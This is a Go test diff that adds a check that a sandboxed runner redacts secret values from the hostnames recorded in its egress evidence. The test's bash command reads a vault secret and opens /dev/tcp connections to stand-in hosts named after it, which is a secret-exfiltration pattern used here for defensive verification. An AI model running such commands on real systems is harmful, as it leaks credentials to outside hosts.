@@ -414,3 +414,27 @@ func TestLongLists(t *testing.T) {
 		t.Error("a call that didn't run has lists")
 	}
 }
+
+// TestSecretInHost: a name that a program asks for has no value of its call's secrets in the
+// receipt, whether it reached the host or not.
+func TestSecretInHost(t *testing.T) {
+	const value = "Correct-Horse-Battery"
+	w := newWorld(t)
+	h := reaching(t, Config{Egress: w.broker, Vault: vaultWith(t, map[string]string{"vault://global/key": value})})
+	p := &Proposal{Tool: ToolRun, Secrets: []string{"k=vault://global/key"}, EgressHosts: append(w.rules(), fmt.Sprintf("*.web.example:%d", w.port)),
+		Argv: []string{"/bin/bash", "-c", fmt.Sprintf(`k=$(cat /run/secrets/k); exec 3<>/dev/tcp/$k.web.example/%d && printf 'hello\n' >&3 && head -n 1 <&3; : 4<>/dev/tcp/$k.other.example/443`, w.port)}}
+	var out bytes.Buffer
+	o := h.call(p, IO{Stdout: &out})
+	if o.Outcome != receipt.Executed || !strings.Contains(out.String(), "heard hello") { // the control
+		t.Fatalf("%s, %q, %+v", o.Outcome, out.String(), o.Error)
+	}
+	e := o.Result.Evidence.Egress
+	if len(e.Connections) != 1 || len(e.Denied) != 1 {
+		t.Fatalf("%+v", e)
+	}
+	for want, host := range map[string]string{"[secret key].web.example": e.Connections[0].Host, "[secret key].other.example": e.Denied[0].Host} {
+		if host != want {
+			t.Errorf("the evidence has %q, want %q", host, want)
+		}
+	}
+}
